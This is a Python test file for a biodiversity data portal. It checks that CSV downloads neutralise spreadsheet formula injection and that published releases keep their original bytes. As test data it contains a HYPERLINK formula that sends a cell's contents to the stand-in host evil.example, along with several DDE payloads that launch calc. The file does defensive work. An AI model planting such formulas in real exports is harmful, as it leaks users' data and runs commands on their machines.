"""CSV downloads neutralise spreadsheet formulas; published releases keep their data (issue 9).

A rejected row or a user's name that starts with ``=`` becomes a live formula when a
download is opened in a spreadsheet; downloads prefix such cells with ``'`` (OWASP).
Releases are published data with recorded checksums and are served byte for byte.
"""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import polars as pl
import pytest

from jobs.registry import get_step
from jobs.steps.base import StepContext
from portal.extensions import db
from portal.services import audit
from portal.services.csv_export import safe_cell
from tests.factories import gen_programme, gen_run, gen_steward, gen_user

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'


@pytest.mark.parametrize("value,shown", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-3.70", "-3.70"), ("+1e5", "+1e5"), ("-.5", "-.5"), ("Parus major", "Parus major"),
    ("", ""), (None, None), (-4, -4), ("a=b", "a=b"),
])
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_rejection_report_download_neutralises_formulas(app, client, auth):
    programme = gen_programme("BIRDS")
    user = gen_user("reviewer@x.org")
    gen_steward(programme, user, "reviewer")
    run = gen_run(programme, status="blocked")
    report = Path(app.config["WORK_ROOT"]) / run.uuid / "rejections.csv"
    report.parent.mkdir(parents=True)
    original = ("row,rule,scientificName,decimalLongitude\n"
                f'3,taxon-present,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",-15.42\n'
                "4,taxon-present,@evil,-15.50\n")
    report.write_text(original, encoding="utf-8")
    from portal.models import MonitoringProgrammeRunStep

    db.session.add(MonitoringProgrammeRunStep(
        run_id=run.id, ordering=0, step_key="validate", step_type="validate.rules",
        status="blocked", details_json={"files": {"rejection_report": str(report)}}))
    db.session.commit()
    auth.login("reviewer@x.org")
    response = client.get(f"/runs/{run.uuid}/rejections.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = _rows(response)
    assert rows[0] == ["row", "rule", "scientificName", "decimalLongitude"]
    assert rows[1] == ["3", "taxon-present", "'" + HYPERLINK, "-15.42"]
    assert rows[2] == ["4", "taxon-present", "'@evil", "-15.50"]
    assert report.read_text(encoding="utf-8") == original  # the kept report is unchanged


def test_audit_csv_neutralises_a_user_name_starting_with_equals(app, client, auth):
    programme = gen_programme("BIRDS")
    gen_user("admin@x.org", is_admin=True)
    # The trail labels actors by e-mail; both the name and the address are hostile here.
    prankster = gen_user("=1+cmd|'/C calc'!A0@x.org")
    prankster.name = "=cmd|'/C calc'!A0"
    audit.record("programme_updated", actor=prankster, object_type="programme",
                 object_id="-1+1", programme_id=programme.id)
    db.session.commit()
    auth.login("admin@x.org")
    response = client.get("/audit.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = [row for row in _rows(response) if "programme_updated" in row]
    assert len(rows) == 1
    assert rows[0][1] == "'=1+cmd|'/C calc'!A0@x.org"
    assert rows[0][4] == "'-1+1"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in _rows(response) for cell in row)


def test_a_published_release_keeps_the_original_value(app, client, auth, tmp_path):
    """The publish step writes the cell as it is, and the download serves the same bytes."""
    gen_programme("BIRDS")
    gen_user("admin@x.org", is_admin=True)
    ctx = StepContext(
        run_uuid="run-1", programme_code="BIRDS", step_key="publish",
        params={"name": "sites", "tables": ["sites"]}, rules=[], data_root=tmp_path,
        publish_root=Path(app.config["PUBLISH_ROOT"]), work_dir=tmp_path / "work",
        store_root=tmp_path / "store", dry_run=False,
        tables={"sites": pl.DataFrame({"site": [HYPERLINK, "@home"], "records": [1, 2]})},
        primary_table="sites", programme_licence="CC0-1.0")
    assert get_step("publish.release")(ctx).status == "succeeded"
    published = Path(app.config["PUBLISH_ROOT"]) / "BIRDS" / "1.0" / "sites.csv"
    on_disk = published.read_bytes()
    assert [r[0] for r in csv.reader(io.StringIO(on_disk.decode()))][1:] == [HYPERLINK, "@home"]
    auth.login("admin@x.org")
    download = client.get("/programmes/BIRDS/releases/1.0/sites.csv")
    assert download.status_code == 200
    assert download.data == on_disk
    recorded = {f["path"]: f["sha256"] for f in ctx.lineage["release"]["files"]}
    assert recorded["sites.csv"] == hashlib.sha256(download.data).hexdigest()
